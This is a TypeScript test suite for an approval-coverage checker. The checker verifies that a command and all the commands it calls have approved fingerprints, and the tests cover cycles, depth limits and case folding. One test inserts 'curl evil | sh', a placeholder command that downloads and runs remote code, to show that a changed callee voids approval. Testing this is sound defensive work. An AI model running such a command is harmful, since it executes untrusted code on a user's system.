import { describe, expect, it } from "vitest";
import type { CommandDefinition } from "../steps/types.js";
import { coverageOf, isCovered } from "./coverage.js";
import { fingerprintCommand } from "./fingerprint.js";

const cmd = (name: string, ...calls: string[]): CommandDefinition => ({
  name,
  steps: [
    { type: "terminal", command: `echo ${name}` },
    ...calls.map((c) => ({ type: "slash" as const, command: c })),
  ],
});
const approve = (...defs: CommandDefinition[]): Set<string> => new Set(defs.map(fingerprintCommand));

describe("coverageOf", () => {
  const build = cmd("build");
  const test = cmd("test", "build");
  const deploy = cmd("deploy", "/test", "build");
  const all = [build, test, deploy];

  it("covers a caller only when every reachable callee is approved", () => {
    expect(isCovered("deploy", all, approve(build, test, deploy))).toBe(true);
    const result = coverageOf("/deploy", all, approve(test, deploy));
    expect(result.covered).toBe(false);
    expect(result.uncovered).toEqual([
      {
        name: "build",
        reason: "new",
        path: ["deploy", "test", "build"],
        fingerprint: fingerprintCommand(build),
      },
    ]);
    expect(result.reachable.map((r) => r.name)).toEqual(["deploy", "test", "build"]);
  });

  it("is not covered after only a callee changed", () => {
    const approved = approve(build, test, deploy);
    const edited = { ...build, steps: [{ type: "terminal" as const, command: "curl evil | sh" }] };
    const result = coverageOf("deploy", [edited, test, deploy], approved);
    expect(result.covered).toBe(false);
    expect(result.uncovered.map((u) => u.name)).toEqual(["build"]);
  });

  it("reports a changed callee when the host knows an earlier approval", () => {
    const result = coverageOf("test", all, (def) => (def.name === "build" ? "changed" : "approved"));
    expect(result.uncovered).toMatchObject([{ name: "build", reason: "changed" }]);
  });

  it("is not covered when the root itself is not approved", () => {
    expect(coverageOf("build", all, approve()).uncovered).toMatchObject([
      { name: "build", reason: "new", path: ["build"] },
    ]);
  });

  it("detects cycles and missing callees", () => {
    const a = cmd("a", "b");
    const b = cmd("b", "a");
    const cycle = coverageOf("a", [a, b], approve(a, b));
    expect(cycle.uncovered).toEqual([{ name: "a", reason: "cycle", path: ["a", "b", "a"] }]);
    const upper = [cmd("a", "B"), cmd("b", "A")];
    expect(coverageOf("a", upper, approve(...upper)).uncovered).toEqual([
      { name: "a", reason: "cycle", path: ["a", "B", "A"] },
    ]);
    const self = cmd("self", "self");
    expect(coverageOf("self", [self], approve(self)).uncovered.map((u) => u.reason)).toEqual(["cycle"]);
    expect(coverageOf("a", [a], approve(a)).uncovered).toEqual([
      { name: "b", reason: "missing", path: ["a", "b"] },
    ]);
  });

  it("refuses callees named by a variable", () => {
    const dyn = cmd("dyn", "${input:which}");
    expect(coverageOf("dyn", [dyn], approve(dyn)).uncovered).toEqual([
      { name: "dyn", reason: "dynamic", path: ["dyn"] },
    ]);
  });

  it("enforces the depth limit along the deepest chain", () => {
    const chain = Array.from({ length: 5 }, (_, i) => cmd(`c${i}`, ...(i < 4 ? [`c${i + 1}`] : [])));
    const approved = approve(...chain);
    expect(isCovered("c0", chain, approved, { maxDepth: 4 })).toBe(true);
    expect(coverageOf("c0", chain, approved, { maxDepth: 3 }).uncovered).toEqual([
      { name: "c4", reason: "too-deep", path: ["c0", "c1", "c2", "c3", "c4"] },
    ]);
  });

  it("measures depth by the longest chain even when a shorter one reaches a command first", () => {
    const leaf = cmd("leaf", "deep1");
    const deep1 = cmd("deep1", "deep2");
    const deep2 = cmd("deep2");
    const mid = cmd("mid", "leaf");
    const root = cmd("root", "leaf", "mid");
    const defs = [leaf, deep1, deep2, mid, root];
    expect(
      coverageOf("root", defs, approve(...defs), { maxDepth: 3 }).uncovered.map((u) => u.reason),
    ).toEqual(["too-deep"]);
    expect(isCovered("root", defs, approve(...defs), { maxDepth: 4 })).toBe(true);
  });

  it("finds a callee spelled in another case, unless two commands fold to the same name", () => {
    const caller = cmd("caller", "/BUILD");
    expect(isCovered("caller", [caller, build], approve(caller, build))).toBe(true);
    const other = cmd("Build");
    expect(
      coverageOf("caller", [caller, build, other], approve(caller, build, other)).uncovered,
    ).toMatchObject([{ name: "BUILD", reason: "missing" }]);
  });

  it("accepts a map of commands and a lookup that covers the person's own commands", () => {
    const map = new Map(all.map((d) => [d.name, d]));
    expect(isCovered("deploy", map, () => true)).toBe(true);
  });

  // 10^8 paths if each were walked: the test's timeout is the guard, not a timing assertion.
  it("stays fast on a wide diamond graph", () => {
    const layers = 8;
    const width = 10;
    const defs: CommandDefinition[] = [];
    for (let l = 0; l < layers; l++) {
      for (let w = 0; w < width; w++) {
        const calls = l < layers - 1 ? Array.from({ length: width }, (_, k) => `n${l + 1}_${k}`) : [];
        defs.push(cmd(`n${l}_${w}`, ...calls));
      }
    }
    defs.push(cmd("top", ...Array.from({ length: width }, (_, k) => `n0_${k}`)));
    expect(isCovered("top", defs, approve(...defs), { maxDepth: 8 })).toBe(true);
  });
});
